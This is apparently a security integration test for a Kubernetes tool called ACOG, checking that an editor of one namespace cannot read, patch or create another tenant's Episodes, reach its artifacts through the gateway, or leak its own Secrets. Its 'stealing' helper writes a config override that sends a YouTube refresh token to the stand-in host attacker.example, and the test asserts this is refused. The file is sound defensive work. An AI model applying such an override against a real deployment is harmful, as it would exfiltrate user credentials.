// The hostile tenant: an editor of namespace B (the local control plane's acog-editor, bound to B
// here) tries each attack of issue #12 on namespace A, or on credentials of its own namespace it is
// not meant to use, through every door ACOG has: kubectl, the plugin, the gateway, the operator.
// Each attack is printed with its outcome. The attacks on the transports are in nats.test.ts (NATS
// subjects), storage.test.ts (S3 prefixes); those on runners and results beside the code
// (runners/src/contract, test/operator/stage-results.test.ts, test/operator/forged-events.test.ts).
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BatchV1Api, CoreV1Api, CustomObjectsApi, RbacAuthorizationV1Api } from '@kubernetes/client-node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { GROUP, VERSION, type Episode } from '@acog/api';
import type { Gateway } from '@acog/console';
import { acog } from '@acog/kubectl-plugin/testing';
import { call, startTestGateway } from '../console/support.ts';
import { kubeConfig, uniqueName } from '../support/env.ts';
import { apiFailure } from '../support/kube.ts';
import { getEpisode, prepareNamespace, startOperatorProcess, waitForEpisode, type OperatorProcess } from '../support/operator.ts';
import { apply, testChannel, testEpisode } from '../support/pipeline-objects.ts';

const victim = uniqueName('tenant-a');
const attacker = uniqueName('tenant-b');
let operator: OperatorProcess;
let gateway: Gateway;

const editorApi = () => kubeConfig('editor').makeApiClient(CustomObjectsApi);

function report(attack: string, outcome: string): string {
  console.log(`[hostile tenant] ${attack} → ${outcome}`);
  return outcome;
}

/** The attack through a credential leak: an llm override that sends the namespace's YouTube token to the attacker's server. */
function stealing(episode: Episode): void {
  episode.spec.overrides = {
    providers: {
      llm: { provider: 'openai', baseURL: 'https://attacker.example/v1', secretRef: { name: 'youtube', key: 'YOUTUBE_REFRESH_TOKEN' } },
    },
  };
}

beforeAll(async () => {
  await prepareNamespace(victim);
  await prepareNamespace(attacker);
  // acog-editor edits ACOG objects in the attacker's namespace, as in team-a.
  await kubeConfig()
    .makeApiClient(RbacAuthorizationV1Api)
    .createNamespacedRoleBinding({
      namespace: attacker,
      body: {
        metadata: { name: 'acog-local-editors' },
        subjects: [{ kind: 'Group', name: 'acog:editors', apiGroup: 'rbac.authorization.k8s.io' }],
        roleRef: { kind: 'ClusterRole', name: 'acog-local-editor', apiGroup: 'rbac.authorization.k8s.io' },
      },
    });
  const core = kubeConfig().makeApiClient(CoreV1Api);
  for (const namespace of [victim, attacker])
    await core.createNamespacedSecret({
      namespace,
      body: {
        metadata: { name: 'youtube' },
        stringData: { YOUTUBE_CLIENT_ID: 'id', YOUTUBE_CLIENT_SECRET: 's', YOUTUBE_REFRESH_TOKEN: 'refresh' },
      },
    });
  await apply(victim, await testChannel('victim-channel'));
  await apply(victim, await testEpisode('victim-episode', 'victim-channel', (e) => (e.spec.suspend = true)));
  await apply(attacker, await testChannel('own-channel'));
  operator = await startOperatorProcess({ namespace: attacker });
  gateway = await startTestGateway();
}, 120_000);

afterAll(async () => {
  await operator?.stop();
  await gateway?.stop();
});

describe('a hostile tenant (editor of B) against A', () => {
  it("cannot read or write A's Episodes and Channels through the API server", async () => {
    const read = await apiFailure(
      editorApi().getNamespacedCustomObject({
        group: GROUP,
        version: VERSION,
        namespace: victim,
        plural: 'episodes',
        name: 'victim-episode',
      }),
    );
    expect(report(`kubectl get episode victim-episode -n A`, `${read.code} ${read.reason}`)).toBe('403 Forbidden');
    const write = await apiFailure(
      editorApi().patchNamespacedCustomObject({
        group: GROUP,
        version: VERSION,
        namespace: victim,
        plural: 'episodes',
        name: 'victim-episode',
        body: [{ op: 'replace', path: '/spec/suspend', value: false }],
      }),
    );
    expect(report('kubectl patch episode victim-episode -n A (resume it)', `${write.code} ${write.reason}`)).toBe('403 Forbidden');
    const create = await apiFailure(
      editorApi().createNamespacedCustomObject({
        group: GROUP,
        version: VERSION,
        namespace: victim,
        plural: 'episodes',
        body: await testEpisode('intruder', 'victim-channel'),
      }),
    );
    expect(report('kubectl create episode in A', `${create.code} ${create.reason}`)).toBe('403 Forbidden');
  });

  it("cannot reach A's Episodes, artifacts or logs through the gateway", async () => {
    const base = `/api/v1/namespaces/${victim}/episodes/victim-episode`;
    for (const [what, method, path] of [
      ['GET episode of A', 'GET', base],
      ['GET an artifact of A', 'GET', `${base}/artifacts/video.mp4`],
      ['GET stage logs of A', 'GET', `${base}/stages/plan/logs`],
      ['POST resume of A', 'POST', `${base}/resume`],
      ['POST cancel of A', 'POST', `${base}/cancel`],
    ] as const) {
      const answer = await call(gateway, 'editor', method, path);
      expect(report(`gateway: ${what}`, String(answer.status))).toBe('403');
    }
    const listed = await call<{ items: { namespace: string }[] }>(gateway, 'editor', 'GET', '/api/v1/episodes');
    expect(
      report('gateway: list every episode', listed.body.items.some((item) => item.namespace === victim) ? 'saw A' : 'A not listed'),
    ).toBe('A not listed');
  });

  it('cannot make a runner send a Secret of its namespace to its own server: the plugin and the gateway refuse, the operator holds', async () => {
    const episode = await testEpisode('steal', 'own-channel', stealing);
    const dir = await mkdtemp(join(tmpdir(), 'acog-hostile-'));
    const file = join(dir, 'steal.yaml');
    await writeFile(file, stringify(episode));
    const plugin = await acog(['create', '-f', file, '-n', attacker], { user: 'editor' });
    expect(
      report(
        'kubectl acog create -f steal.yaml (override naming the youtube Secret, baseURL attacker.example)',
        plugin.code === 0 ? 'sent' : 'refused, nothing sent',
      ),
    ).toBe('refused, nothing sent');
    expect(plugin.stderr).toContain('spec.overrides.providers.llm.secretRef');

    const viaGateway = await call<{ error: { fields?: { field: string }[] } }>(
      gateway,
      'editor',
      'POST',
      `/api/v1/namespaces/${attacker}/episodes`,
      episode,
    );
    expect(report('gateway: POST the same Episode', String(viaGateway.status))).toBe('422');
    expect(viaGateway.body.error.fields?.map((field) => field.field)).toContain('spec.overrides.providers.llm.secretRef');

    // kubectl apply itself cannot be stopped by ACOG (the API server has no view of the Channel): the operator holds it.
    await editorApi().createNamespacedCustomObject({
      group: GROUP,
      version: VERSION,
      namespace: attacker,
      plural: 'episodes',
      body: episode,
    });
    const held = await waitForEpisode(attacker, 'steal', (e) => !!e.status?.conditions?.some((c) => c.reason === 'OverrideNotAllowed'), {
      operator,
    });
    const progressing = held.status?.conditions?.find((c) => c.type === 'Progressing');
    expect(report('kubectl create the same Episode (the operator decides)', `${progressing?.status} ${progressing?.reason}`)).toBe(
      'False OverrideNotAllowed',
    );
    expect(progressing?.message).toContain('spec.overrides.providers.llm.baseURL');
    const jobs = await kubeConfig().makeApiClient(BatchV1Api).listNamespacedJob({ namespace: attacker });
    expect(report('stage Jobs started for it', String(jobs.items.length))).toBe('0');
    expect((await getEpisode(attacker, 'steal')).status?.phase).toBe('Pending');
  });
});
